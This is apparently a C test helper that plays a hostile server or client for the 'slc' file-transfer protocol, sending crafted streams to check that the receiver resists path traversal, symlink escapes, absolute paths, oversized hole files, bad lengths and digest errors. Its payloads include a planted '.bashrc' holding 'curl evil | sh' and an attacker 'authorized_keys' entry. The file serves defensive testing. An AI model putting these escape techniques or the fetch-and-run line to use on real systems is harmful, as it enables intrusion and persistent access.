/* A hostile slc server for tests: listens on a unix socket, accepts one
 * insecure client, waits for its first request and answers with a crafted
 * stream that tries to escape the client's destination or break its parser.
 *
 *   slc_evil MODE SOCKET [TARGET]
 *
 * MODE: escape  symlink "evil" -> TARGET (absolute), then a directory "evil"
 *               holding a file, then a file written through "evil/.."-free
 *               names only (the parser refuses anything else)
 *       dotdot  an ENTRY named ".."
 *       badlen  a record length of 0xffffffff
 *       digest  a file whose digest does not match
 *       die     half a file, then the connection closes
 *       rename  the top is a file named ".bashrc", whatever was asked for
 *       abstop  the top is named TARGET (an absolute path)
 *       chmod   the top is a directory of mode 0777 holding a directory
 *               "sub" (0777) and a file "authorized_keys": merged into
 *               directories the client already has, their modes must stay
 *       hole    the top is a hole-only file of 2^62 bytes
 *       put-hole  as a client of the server at SOCKET: uploads a hole-only
 *               2^62-byte file to TARGET, then waits for the answer */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "lib/core/wire.h"
#include "slc/digest.h"
#include "slc/proto.h"

static uint8_t rec[65536];
static size_t rlen;
static uint32_t sid = 1;

static int wall(int fd, const void *p, size_t n)
{
	while (n) {
		ssize_t r = write(fd, p, n);

		if (r <= 0)
			return -1;
		p = (const uint8_t *)p + r;
		n -= (size_t)r;
	}
	return 0;
}

static int rall(int fd, void *p, size_t n)
{
	while (n) {
		ssize_t r = read(fd, p, n);

		if (r <= 0)
			return -1;
		p = (uint8_t *)p + r;
		n -= (size_t)r;
	}
	return 0;
}

static void add(uint8_t type, const void *p, size_t n)
{
	slc_frame_hdr(rec + 4 + rlen, type, 0, sid, (uint32_t)n);
	if (n)
		memcpy(rec + 4 + rlen + SLC_FRAME_HDR, p, n);
	rlen += SLC_FRAME_HDR + n;
}

static int flush(int fd)
{
	wire_put32(rec, (uint32_t)rlen);
	if (wall(fd, rec, 4 + rlen) < 0)
		return -1;
	rlen = 0;
	return 0;
}

static void entry_m(uint8_t kind, const char *name, uint64_t size, const char *target,
		    uint32_t mode)
{
	struct slc_entry e = { .kind = kind, .mode = mode, .size = size };
	uint8_t p[8192];
	long n;

	snprintf(e.name, sizeof(e.name), "%s", name);
	if (target)
		snprintf(e.target, sizeof(e.target), "%s", target);
	n = slc_entry_encode(p, sizeof(p), &e);
	add(SLC_ENTRY, p, (size_t)n);
}

static void entry(uint8_t kind, const char *name, uint64_t size, const char *target)
{
	entry_m(kind, name, size, target, kind == SLC_K_DIR ? 0755 : 0644);
}

/* A file of `size` bytes that is all hole: no DATA, only its digest. */
static void hole_file(const char *name, uint64_t size)
{
	uint8_t p[2 + SLC_DIGEST_MAX];
	struct slc_digest d;

	entry(SLC_K_FILE, name, size, NULL);
	slc_digest_init(&d, SLC_DG_XXH128);
	p[0] = SLC_DG_XXH128;
	p[1] = (uint8_t)slc_digest_end(&d, size, p + 2);
	add(SLC_FILE_END, p, 2u + p[1]);
}

static void file(const char *name, const char *data, int bad_digest)
{
	uint8_t p[4096], dg[SLC_DIGEST_MAX];
	struct slc_digest d;
	size_t n = strlen(data);

	entry(SLC_K_FILE, name, n, NULL);
	wire_put64(p, 0);
	memcpy(p + 8, data, n);
	add(SLC_DATA, p, 8 + n);
	slc_digest_init(&d, SLC_DG_XXH128);
	slc_digest_data(&d, 0, data, n);
	slc_digest_end(&d, n, dg);
	if (bad_digest)
		dg[0] ^= 1;
	p[0] = SLC_DG_XXH128;
	p[1] = 16;
	memcpy(p + 2, dg, 16);
	add(SLC_FILE_END, p, 18);
}

/* Reads the client hello and the first record (its request). */
static int greet(int fd)
{
	uint8_t hello[SLC_CHELLO_LEN], sh[SLC_SHELLO_MAX], hdr[4];
	struct slc_shello h = { .version = SLC_VERSION, .flags = SLC_HF_INSECURE };
	size_t n;

	if (rall(fd, hello, sizeof(hello)) < 0)
		return -1;
	n = slc_shello_encode(&h, NULL, sh);
	if (wall(fd, sh, n) < 0 || rall(fd, hdr, 4) < 0 || wire_get32(hdr) > sizeof(rec) ||
	    rall(fd, rec, wire_get32(hdr)) < 0)
		return -1;
	sid = wire_get32(rec + 4);
	return 0;
}

/* A hostile client: the server must not spend unbounded work on it. */
static int put_hole(const char *sock, const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct slc_chello ch = { .version = SLC_VERSION, .flags = SLC_HF_INSECURE };
	uint8_t hello[SLC_CHELLO_LEN], sh[SLC_SHELLO_MAX], req[8 + SLC_PATH_MAX];
	long n;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	slc_chello_encode(&ch, hello);
	if (wall(fd, hello, sizeof(hello)) < 0 || rall(fd, sh, SLC_SHELLO_HDR) < 0)
		return 1;
	n = slc_shello_len(sh);
	if (n < 0 || rall(fd, sh + SLC_SHELLO_HDR, (size_t)n - SLC_SHELLO_HDR) < 0)
		return 1;
	sid = 1;
	n = slc_xfer_req_encode(req, sizeof(req), 0, path);
	add(SLC_PUT, req, (size_t)n);
	hole_file("hole", 1ull << 62);
	add(SLC_XFER_END, NULL, 0);
	if (flush(fd) < 0)
		return 1;
	while (read(fd, rec, sizeof(rec)) > 0)
		;
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	const char *mode = argc > 2 ? argv[1] : "";
	int l, fd;

	if (argc < 3 || strlen(argv[2]) >= sizeof(sa.sun_path)) {
		fprintf(stderr, "usage: slc_evil MODE SOCKET [TARGET]\n");
		return 2;
	}
	if (!strcmp(mode, "put-hole"))
		return argc > 3 ? put_hole(argv[2], argv[3]) : 2;
	strcpy(sa.sun_path, argv[2]);
	unlink(argv[2]);
	l = socket(AF_UNIX, SOCK_STREAM, 0);
	if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(l, 1) < 0) {
		perror("listen");
		return 1;
	}
	fd = accept(l, NULL, NULL);
	if (fd < 0 || greet(fd) < 0)
		return 1;
	if (!strcmp(mode, "badlen")) {
		wire_put32(rec, 0xffffffffu);
		wall(fd, rec, 4);
	} else if (!strcmp(mode, "dotdot")) {
		/* The encoder does not judge names; the receiver's parser must. */
		entry(SLC_K_DIR, "top", 0, NULL);
		file("..", "owned\n", 0);
		flush(fd);
	} else if (!strcmp(mode, "escape") && argc > 3) {
		entry(SLC_K_DIR, "top", 0, NULL);
		entry(SLC_K_LINK, "evil", 0, argv[3]);
		entry(SLC_K_DIR, "evil", 0, NULL);
		file("pwned", "escaped\n", 0);
		add(SLC_DIR_END, NULL, 0);
		entry(SLC_K_LINK, "evil2", 0, argv[3]);
		file("evil2", "replaced the link\n", 0);
		add(SLC_DIR_END, NULL, 0);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "digest")) {
		entry(SLC_K_DIR, "top", 0, NULL);
		file("good", "fine\n", 0);
		file("bad", "corrupted\n", 1);
		add(SLC_DIR_END, NULL, 0);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "rename")) {
		file(".bashrc", "curl evil | sh\n", 0);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "abstop") && argc > 3) {
		file(argv[3], "owned\n", 0);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "chmod")) {
		entry_m(SLC_K_DIR, "ssh", 0, NULL, 0777);
		entry_m(SLC_K_DIR, "sub", 0, NULL, 0777);
		add(SLC_DIR_END, NULL, 0);
		file("authorized_keys", "ssh-ed25519 AAAA evil\n", 0);
		add(SLC_DIR_END, NULL, 0);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "hole")) {
		hole_file("top", 1ull << 62);
		add(SLC_XFER_END, NULL, 0);
		flush(fd);
	} else if (!strcmp(mode, "die")) {
		uint8_t p[4096] = { 0 };

		entry(SLC_K_FILE, "top", 1 << 20, NULL);
		add(SLC_DATA, p, 8 + 1000);
		flush(fd);
		close(fd);
		return 0;
	} else {
		fprintf(stderr, "slc_evil: unknown mode '%s'\n", mode);
		return 2;
	}
	/* Let the client react, then go. */
	while (read(fd, rec, sizeof(rec)) > 0)
		;
	close(fd);
	close(l);
	unlink(argv[2]);
	return 0;
}
